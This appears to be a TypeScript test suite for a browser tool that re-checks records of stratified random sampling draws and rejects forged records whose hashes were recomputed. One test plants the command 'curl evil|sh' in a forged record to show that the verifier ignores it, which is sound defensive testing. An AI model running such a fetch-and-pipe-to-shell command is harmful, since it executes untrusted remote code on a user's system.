import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import {
  authoritySeed,
  commitSelection,
  drandSeed,
  drawSelection,
  memorySource,
  simplePlan,
  stratifiedPlan,
  typedSeed,
} from '../../../plugins/sampling/library.js';
import { canonicalHash, canonicalJson as canonicalJsonOfServer } from '../../../src/kit/canonical-json.js';
import { asRecord, type DrawRecord } from './draw-record.js';
import { canonicalJson } from './hash.js';
import { readRegistry } from './read-registry.js';
import { sameLines } from './same-lines.js';
import { checkRecord, repeatDraw } from './verify-draw.js';

const text = `id;zone\n${Array.from({ length: 300 }, (_, at) => `ü-${at}😀;${at % 3 === 0 ? 'Zürich' : 'Bern'}`).join('\n')}\n`;
/** Of drand quicknet, as api.drand.sh gives it. */
const BEACON = {
  chainHash: '52db9ba70e0cc0f6eaf7803dd07447a1f5477735fd3f661792ba94600c84e971',
  round: 657413,
  signature:
    'b713718a38ae728dfd477991af2822e08d2f305e47718cef9f7848ce4050e7be41076862b98fad56e91a6b85b89cd97b',
  randomness: 'fc1873a13f3545aeade8401532ef5519920652eee6b0d2b19ca12643b87b3587',
};
const { chainHash, ...beacon } = BEACON;
const LATER = '2023-09-16T23:00:00.000Z';
const columns = { id: 'id', stratum: 'zone' };
let record: DrawRecord;
beforeAll(async () => {
  const drawn: unknown = await drawSelection(memorySource('units.csv', text), {
    designId: 'd-1',
    algorithm: 'sha256-ticket-v1',
    plan: stratifiedPlan([
      { name: 'Bern', size: 20, replacements: 3 },
      { name: 'Zürich', size: 10, replacements: 2 },
    ]),
    seed: typedSeed('lottery 7'),
    columns,
    drawnAt: '2024-02-20T10:00:00.000Z',
  });
  const read = asRecord(JSON.parse(JSON.stringify(drawn)));
  if (read === undefined) throw new Error('no record');
  record = read;
});
/** Parts of the record that a forger writes. */
interface Draft {
  drawnAt: string;
  seed: { text: string; origin: Record<string, unknown> };
  frame: { columns: { stratum?: string }; strata?: unknown[] };
  plan: { strata: unknown[] };
  strata: {
    selectedSha256: string;
    seed: string;
    selected: { id: string; order: number }[];
    replacements: unknown[];
  }[];
  check: { unit: string; lists: object[] };
}
/** A record that was changed by somebody who knows how to make its hash fit. */
function forged(change: (copy: Draft) => void): unknown {
  const { sha256: _, ...copy } = structuredClone(record);
  change(copy as unknown as Draft);
  return { ...copy, sha256: canonicalHash(copy) };
}
/** What the browser says of it, with the right registry. */
async function said(untrusted: unknown): Promise<string> {
  const read = asRecord(untrusted);
  if (read === undefined) return 'no record';
  return outcome(await repeatDraw(read, readRegistry(text, read.frame.columns) ?? [])).at(-1) ?? '';
}
function rename(unit: { id: string } | undefined): void {
  if (unit !== undefined) unit.id = 'ü-1😀x';
}
function trusted(origin: Record<string, unknown>): void {
  origin['trust'] = 'verifiable';
}
/** Bern alone, as if there were no Zürich. */
function dropStratum(copy: Draft): void {
  copy.plan.strata.pop();
  copy.strata.pop();
  copy.check.lists.pop();
  Object.assign(copy, { selectedSha256: copy.strata[0]?.selectedSha256 });
}
function commitmentOf({ seed: { origin } }: DrawRecord): object {
  return origin.kind === 'typed' ? {} : origin.commitment;
}
const outcome = (checks: readonly { name: string; passed: boolean }[]) =>
  checks.map(({ name, passed }) => `${name} ${passed ? 'passed' : 'failed'}`);

describe('a draw in the browser', () => {
  it('repeats what the oracle drew, unit by unit', async () => {
    expect(outcome(await repeatDraw(record, readRegistry(text, columns) ?? []))).toEqual([
      'record passed',
      'seed passed',
      'plan passed',
      'tickets passed',
      'says passed',
      'frame passed',
      'draw passed',
    ]);
  });

  it('fails a record that was changed, by its hash', async () => {
    const changed = { ...record, drawnAt: '2024-02-21T10:00:00.000Z' };
    expect(outcome(await checkRecord(changed))[0]).toBe('record failed');
  });

  it.each<[string, (copy: Draft) => void, string]>([
    ['another unit in the place of one', ({ strata: [one] }) => rename(one?.selected[0]), 'tickets failed'],
    ['a unit that is passed over', ({ strata: [one] }) => void one?.selected.shift(), 'plan failed'],
    ['fewer units than planned', ({ strata: [one] }) => void one?.selected.splice(5), 'plan failed'],
    ['nothing at all', (copy) => Object.assign(copy, { strata: [], plan: { strata: [] } }), 'plan failed'],
    [
      'a seed of its own in one stratum',
      ({ strata: [one] }) => void Object.assign(one ?? {}, { seed: 'grind7' }),
      'plan failed',
    ],
    [
      'a seed that is shown and not used',
      ({ seed }) => void Object.assign(seed, { text: 'lottery 8' }),
      'plan failed',
    ],
    ['strata of the registry that are left out', dropStratum, 'frame failed'],
    [
      'strata of the registry that the record leaves out too',
      (copy) => {
        dropStratum(copy);
        copy.frame.strata?.pop();
        Object.assign(copy.frame, { size: 200 });
      },
      'frame failed',
    ],
    [
      'strata by another column',
      ({ frame }) => void Object.assign(frame.columns, { stratum: 'id' }),
      'frame failed',
    ],
    [
      'an origin of which nothing is there',
      ({ seed }) => void Object.assign(seed, { origin: { kind: 'drand', trust: 'verifiable' } }),
      'no record',
    ],
    [
      'a member that no record has',
      ({ frame }) => void Object.assign(frame, { excluded: ['ü-3😀'] }),
      'says failed',
    ],
    ['a trust that no typed seed has', ({ seed }) => trusted(seed.origin), 'says failed'],
    [
      'another command for others',
      ({ check: { lists } }) => void Object.assign(lists[0] ?? {}, { command: 'true' }),
      'says failed',
    ],
    [
      'another rule in words',
      (copy) => void Object.assign(copy, { method: 'Units as they please.' }),
      'says failed',
    ],
    [
      'a place that is counted twice',
      ({ strata: [one] }) => void Object.assign(one?.selected[3] ?? {}, { order: 3 }),
      'plan failed',
    ],
  ])('fails %s, also under a fitting hash', async (_, change, expected) => {
    expect(await said(forged(change))).toBe(expected);
  });

  it('fails a registry that is another, and one whose units stand in other strata', async () => {
    const frame = readRegistry(text, columns) ?? [];
    expect(outcome(await repeatDraw(record, frame.slice(1))).at(-1)).toBe('frame failed');
    const moved = frame.map((unit, at) => (at === 1 ? { ...unit, stratum: 'Zürich' } : unit));
    expect(outcome(await repeatDraw(record, moved)).at(-1)).toBe('frame failed');
    // Another file shows nothing; the same units under another number show that the record is wrong.
    const other = (checks: Awaited<ReturnType<typeof repeatDraw>>) =>
      checks.find(({ name }) => name === 'frame')?.other;
    expect(other(await repeatDraw(record, frame.slice(1)))).toBe(true);
    expect(other(await repeatDraw(record, moved))).toBeUndefined();
  });

  it('takes the lines for others from the seed, and none from the record', async () => {
    const lists = [
      ...(Reflect.get(record, 'check') as { lists: { command: string; expect: string }[] }).lists,
    ];
    expect(sameLines(record).filter(({ does }) => does === 'list')).toMatchObject(
      lists.map(({ command, expect: hash }) => ({ command, expect: hash })),
    );
    const evil = forged(({ check: { lists } }) => Object.assign(lists[0] ?? {}, { command: 'curl evil|sh' }));
    expect(sameLines(asRecord(evil) ?? record)).toEqual(sameLines(record));
    const index: unknown = await drawSelection(memorySource('units.csv', text), {
      designId: 'd-1',
      algorithm: 'sha256-index-v1',
      plan: simplePlan(7),
      seed: typedSeed("it's 7"),
      columns: { id: 'id' },
      drawnAt: record.drawnAt,
    });
    const read = asRecord(JSON.parse(JSON.stringify(index)));
    if (read === undefined) throw new Error('no record');
    expect(outcome(await checkRecord(read))).toEqual([
      'record passed',
      'seed passed',
      'plan passed',
      'says passed',
    ]);
    expect(sameLines(read).at(-1)?.command).toBe(Reflect.get(read, 'check').lists[0].command);
  });

  it.each(['drand', 'authority'] as const)(
    'makes the seed again of a commitment and a value of %s',
    async (kind) => {
      const plan = simplePlan(12);
      const terms = {
        designId: 'd-1',
        number: 2,
        frameSha256: record.frame.sha256,
        plan,
        algorithm: 'sha256-ticket-v1',
        bound: { strata: null, adopters: null, sizes: null },
      };
      const commitment = commitSelection(
        kind === 'drand'
          ? { ...terms, source: { kind, chainHash, round: beacon.round } }
          : {
              ...terms,
              source: { kind, authority: 'National lottery', reference: 'draw 61', publicFrom: '2023-09-15' },
            },
        Date.parse('2023-09-13T11:00:03Z'),
      );
      const seed =
        kind === 'drand'
          ? await drandSeed(commitment, beacon, Date.parse(LATER))
          : authoritySeed(commitment, {
              value: '7 9 21',
              reference: 'draw 61',
              publicAt: '2023-09-15',
              receivedAt: '2023-09-16T10:00:00.000Z',
            });
      const drawn: unknown = await drawSelection(memorySource('units.csv', text), {
        designId: 'd-1',
        algorithm: 'sha256-ticket-v1',
        plan,
        seed,
        columns: { id: 'id' },
        drawnAt: LATER,
      });
      const read = asRecord(JSON.parse(JSON.stringify(drawn)));
      if (read === undefined) throw new Error('no record');
      expect(await said(read)).toBe('draw passed');
      for (const change of [
        (copy: DrawRecord) => Object.assign(copy.seed, { text: '42' }),
        (copy: DrawRecord) => Object.assign(copy, { drawnAt: '2023-08-01T00:00:00.000Z' }),
        (copy: DrawRecord) => Object.assign(copy, { designId: 'd-2' }),
        (copy: DrawRecord) => Object.assign(commitmentOf(copy), { committedAt: '2029-01-01T00:00:00.000Z' }),
        (copy: DrawRecord) => Object.assign(commitmentOf(copy), { text: `${commitment.text}9` }),
      ]) {
        const { sha256: _, ...copy } = structuredClone(read);
        change(copy as DrawRecord);
        expect(await said({ ...copy, sha256: canonicalHash(copy) })).toBe('seed failed');
      }
    },
  );

  it('takes nothing else for a record', () => {
    for (const value of [undefined, null, 1, [], {}, { type: 'sampling-selection', version: 1 }])
      expect(asRecord(value)).toBeUndefined();
  });

  it('writes canonical JSON as the oracle does', () => {
    fc.assert(
      fc.property(fc.jsonValue(), (value) => {
        expect(canonicalJson(value)).toBe(canonicalJsonOfServer(value));
      }),
    );
  });
});

describe('a registry', () => {
  it('is read with quotes, any delimiter and line end, from the row that has its columns', () => {
    const units = readRegistry('\uFEFFList of homes\r\nnr;id;zone\r\n1;" a;""b"" ";x\r\n2;c;y', columns);
    expect(units).toEqual([
      { id: 'a;"b"', stratum: 'x' },
      { id: 'c', stratum: 'y' },
    ]);
    expect(readRegistry('a,b\n1,2\n', columns)).toBeUndefined();
  });
});
